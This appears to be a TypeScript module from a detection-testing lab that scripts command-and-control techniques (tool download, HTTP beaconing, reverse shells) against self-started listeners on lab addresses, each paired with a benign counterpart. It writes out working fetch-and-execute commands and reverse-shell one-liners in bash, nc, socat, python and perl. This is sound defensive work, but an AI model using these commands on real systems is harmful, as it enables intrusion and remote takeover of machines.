// Command and control: tools fetched into temporary folders (T1105), an HTTP beacon (T1071.001), and reverse
// shells over raw TCP (T1095) to non-standard ports (T1571). The attacker's servers are listeners each
// procedure starts itself on the lab's "internet" addresses and kills afterwards by its own $!.
import type { Technique } from './types.js';
import { INTERNET } from '../technique-lab.js';

const { web: WEB, c2: C2 } = INTERNET;

/** Starts `listener` in the background as L and waits until its port is listening (ss, no probe connection), at most 2 s. */
const listen = (listener: string, port: number) => `${listener} & L=$!; for i in $(seq 20); do ss -Hltn | grep -qF "${C2}:${port} " && break; sleep 0.1; done`;
/** The attacker's shell listener on C2:port: sends `id` and `exit` to whoever connects, then hangs up. */
const shellListener = (port: number) => listen(`(sleep 0.5; echo id; sleep 0.3; echo exit) | nc -l -N ${C2} ${port} >/dev/null 2>&1`, port);
/**
 * An HTTP server on C2:80 that answers every POST (a beacon's tasking) with "sleep". A plain TCPServer:
 * http.server.HTTPServer looks up the address's name before it listens, and the lab has no DNS.
 */
const beaconServer = listen(
  `python3 -c 'import http.server as h, socketserver as ss
class B(h.BaseHTTPRequestHandler):
    def do_POST(s):
        s.rfile.read(int(s.headers.get("Content-Length") or 0)); s.send_response(200); s.end_headers(); s.wfile.write(b"sleep")
    def log_message(s, *a): pass
ss.TCPServer.allow_reuse_address = True
ss.TCPServer(("${C2}", 80), B).serve_forever()'`,
  80,
);
const stop = 'kill $L 2>/dev/null; wait $L 2>/dev/null; true';

export const c2: Technique[] = [
  {
    id: 'T1105',
    name: 'Ingress tool transfer',
    tactic: 'command-and-control',
    procedures: [
      { name: 'curl -o /tmp', script: `curl -s -o /tmp/.u http://${WEB}/u.sh && chmod +x /tmp/.u && /tmp/.u; rm -f /tmp/.u` },
      { name: 'wget -O /dev/shm', script: `wget -q -O /dev/shm/.k http://${WEB}/k && chmod +x /dev/shm/.k; rm -f /dev/shm/.k`, user: 'www-data' },
      {
        name: 'python urlretrieve to /tmp',
        script: `python3 -c 'import urllib.request as u;u.urlretrieve("http://${WEB}/p","/tmp/.p")'; rm -f /tmp/.p`,
        user: 'bob',
      },
    ],
    benign: { name: 'download a file into the home folder', script: `curl -s -o /root/notes.txt http://${WEB}/notes.txt; rm -f /root/notes.txt` },
  },
  {
    id: 'T1071.001',
    name: 'Web protocols (HTTP beacon)',
    tactic: 'command-and-control',
    procedures: [
      {
        name: 'curl POST loop',
        script: `${beaconServer}; for i in 1 2 3 4; do curl -s -X POST -d "h=$(hostname)&n=$i" http://${C2}/b >/dev/null; sleep 0.2; done; ${stop}`,
      },
      {
        name: 'python urllib loop',
        script: `${beaconServer}; python3 -c 'import urllib.request as u,time
for i in range(4):
    u.urlopen("http://${C2}/c", data=b"id=lab").read(); time.sleep(0.2)'; ${stop}`,
      },
    ],
    benign: { name: 'one webhook POST', script: `curl -s -X POST -d 'deploy=done' http://${WEB}/hook; true` },
  },
  {
    id: 'T1095',
    name: 'Non-application layer protocol (reverse shell)',
    tactic: 'command-and-control',
    procedures: [
      {
        name: 'bash /dev/tcp',
        script: `${shellListener(4444)}; timeout 4 bash -c 'bash -i >& /dev/tcp/${C2}/4444 0>&1' 2>/dev/null; ${stop}`,
        user: 'www-data',
      },
      {
        name: 'nc with a fifo',
        script: `${shellListener(4445)}; rm -f /tmp/f; mkfifo /tmp/f; timeout 4 sh -c 'cat /tmp/f | /bin/sh -i 2>&1 | nc ${C2} 4445 > /tmp/f'; rm -f /tmp/f; ${stop}`,
        user: 'www-data',
      },
      { name: 'socat exec', script: `${shellListener(4446)}; timeout 4 socat TCP:${C2}:4446 EXEC:/bin/sh,stderr; ${stop}`, user: 'www-data' },
    ],
    benign: { name: 'is the web server up (nc -z)', script: `nc -z -w1 ${WEB} 80 && echo up; true` },
  },
  {
    id: 'T1571',
    name: 'Non-standard port',
    tactic: 'command-and-control',
    procedures: [
      {
        name: 'python shell to 4444',
        script: `${shellListener(4444)}; timeout 4 python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${C2}",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])' 2>/dev/null; ${stop}`,
        user: 'www-data',
      },
      {
        name: 'perl shell to 8081',
        script: `${shellListener(8081)}; timeout 4 perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(8081,inet_aton("${C2}")))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");}' 2>/dev/null; ${stop}`,
        user: 'www-data',
      },
    ],
    benign: { name: 'python fetch over port 80', script: `python3 -c 'import urllib.request as u;print(u.urlopen("http://${WEB}/").status)'` },
  },
];
